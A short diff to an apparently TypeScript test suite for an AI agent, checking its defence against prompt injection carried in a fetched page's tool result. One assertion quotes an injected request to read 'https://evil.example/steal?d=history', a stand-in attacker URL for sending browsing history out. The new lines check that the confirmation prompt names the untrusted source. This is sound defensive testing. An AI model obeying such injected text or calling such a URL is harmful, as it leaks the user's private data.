@@ -138,6 +138,8 @@ describe('runAgent: prompt injection from a tool result', () => {
 			['write', true]
 		]);
 		expect(asked[0]?.confirmation).toBe('Read https://evil.example/steal?d=history');
+		// The question names where the untrusted text came from: the page this turn read.
+		expect(asked[0]?.untrustedFrom).toEqual([`fetch_page ${page}`]);
 		expect(fetched).toEqual([page]);
 		expect(written).toEqual([]);
 		expect(out.cards.get('read')?.tainted).toBeUndefined();
